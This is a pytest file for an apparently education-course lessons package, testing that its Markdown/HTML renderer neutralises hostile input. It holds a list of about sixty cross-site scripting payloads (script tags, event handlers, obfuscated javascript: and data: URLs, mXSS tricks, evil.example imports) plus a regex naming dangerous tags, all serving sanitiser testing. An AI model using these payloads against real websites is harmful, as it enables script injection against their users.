"""Hostile Markdown and HTML must never come out as executable markup."""

from __future__ import annotations

import html
import re
import textwrap
from html.parser import HTMLParser

import pytest
from lessons_testkit import edited

import lessons
from lessons.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java\tscript:alert(1))",
    '[click](javascript:alert(1) "title")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x][img]\n\n[img]: data:image/png;base64,AAAA",
    '[x][ref]\n\n[ref]: <javascript:alert(1)> "t"',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](vbscript:msgbox(1))",
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href=" &#x09; javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)" onclick="alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<abbr title="x" onmouseover="alert(1)">CE</abbr>',
    '<h2 id="x" onclick="alert(1)">Heading</h2>',
    "## Heading <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '<a href="https://example.org/" target="_blank" rel="opener">ok</a>',
]

FORBIDDEN_ELEMENTS = {"script", "iframe", "object", "embed", "style", "form", "svg", "math"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def scheme_of(url: str) -> str:
    """The URL as a browser would see its start: unescaped, no whitespace or controls."""
    # html.parser has unescaped the attribute once; unescape again to catch double encoding.
    return _INVISIBLE.sub("", html.unescape(html.unescape(url))).lower()


def assert_safe(fragment: str) -> None:
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag not in FORBIDDEN_ELEMENTS, fragment
        assert tag in ALLOWED_TAGS, fragment
        for name, value in attrs:
            assert not name.startswith("on"), fragment
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, fragment
            if name in {"href", "src"}:
                assert not scheme_of(value or "").startswith(BAD_SCHEMES), fragment
    # Belt and braces: no raw tag of a dangerous kind, whatever the parser thought.
    assert not re.search(r"<\s*/?\s*(script|iframe|object|embed|svg|math|style|form)\b",
                         fragment, re.IGNORECASE), fragment  # fmt: skip


def test_checker_catches_what_it_should() -> None:
    for unsafe in [
        "<script>x</script>",
        '<a href=" JaVa&#x09;Script:alert(1)">x</a>',
        '<img src="data:image/png;base64,AA">',
        '<p onclick="x">x</p>',
        "<svg></svg>",
    ]:
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_markdown(payload: str) -> None:
    assert_safe(lessons.render_markdown(payload))
    assert_safe(lessons.render_inline(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_lesson_markdown(files: dict[str, str], payload: str) -> None:
    files = edited(files, "01-push-pull.md", "## Pull factors\n", f"{payload}\n\n## Pull factors\n")
    lesson = lessons.load_files(files).lessons[0]
    assert len(lesson.html_parts) == 3
    for part in lesson.html_parts:
        assert_safe(part)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_check_prompt_choice_and_why(files: dict[str, str], payload: str) -> None:
    block = textwrap.indent(payload, "      ")
    files = edited(
        files,
        "01-push-pull.md",
        "prompt: Which of these is a *pull* factor?\n",
        f"prompt: |\n{textwrap.indent(payload, '  ')}\n",
    )
    files = edited(
        files,
        "01-push-pull.md",
        "    why: That pushes a youth away from placement.\n",
        f"    why: |\n{block}\n",
    )
    files = edited(
        files, "01-push-pull.md", "  - text: Conflict with a foster parent\n",
        f"  - text: |\n{textwrap.indent(payload, '      ')}\n",
    )  # fmt: skip
    package = lessons.load_files(files)
    check = package.lessons[0].checks[0]
    assert check.prompt == payload.strip() and check.choices[1].why == payload.strip()
    assert_safe(check.prompt_html)
    for choice in check.choices:
        assert_safe(choice.text_html)
        assert_safe(choice.why_html)
    for feedback in lessons.grade(check, ["b"]).feedback:
        assert_safe(feedback.text_html)
        assert_safe(feedback.why_html)


@pytest.mark.parametrize("payload", PAYLOADS[:20])
def test_payload_in_post_test_explanation_and_advisory(files: dict[str, str], payload: str) -> None:
    files = edited(
        files,
        "post-test.yaml",
        "    explanation: Push factors make staying in placement feel worse than leaving.\n",
        f"    explanation: |\n{textwrap.indent(payload, '      ')}\n",
    )
    files = edited(
        files,
        "course.yaml",
        "advisory: |\n",
        f"advisory: |\n{textwrap.indent(payload, '  ')}\n\n",
    )
    package = lessons.load_files(files)
    assert_safe(package.post_test[0].explanation_html)
    assert_safe(package.advisory_html)


def test_allowlisted_markup_survives() -> None:
    rendered = lessons.render_markdown(
        '## Title\n\n[site](https://example.org "t") [mail](mailto:a@example.org)'
        ' [call](tel:988) ![alt](/static/img/a.png "t")\n\n'
        '<abbr title="Continuing education">CE</abbr> H<sub>2</sub>O x<sup>2</sup>'
    )
    assert '<h2 id="section-title">Title</h2>' in rendered
    assert '<a href="https://example.org" title="t" rel="noopener noreferrer">site</a>' in rendered
    assert '<a href="mailto:a@example.org" rel="noopener noreferrer">mail</a>' in rendered
    assert '<a href="tel:988" rel="noopener noreferrer">call</a>' in rendered
    assert '<img alt="alt" src="/static/img/a.png" title="t">' in rendered
    assert '<abbr title="Continuing education">CE</abbr>' in rendered
    assert "H<sub>2</sub>O x<sup>2</sup>" in rendered


def test_dangerous_content_is_dropped_not_shown() -> None:
    # Script and style bodies are code, not text a learner should see.
    rendered = lessons.render_markdown("before <script>alert(1)</script><style>p{}</style> after")
    assert "alert" not in rendered and "p{}" not in rendered
    assert "before" in rendered and "after" in rendered


def test_enough_payloads() -> None:
    assert len(PAYLOADS) >= 30
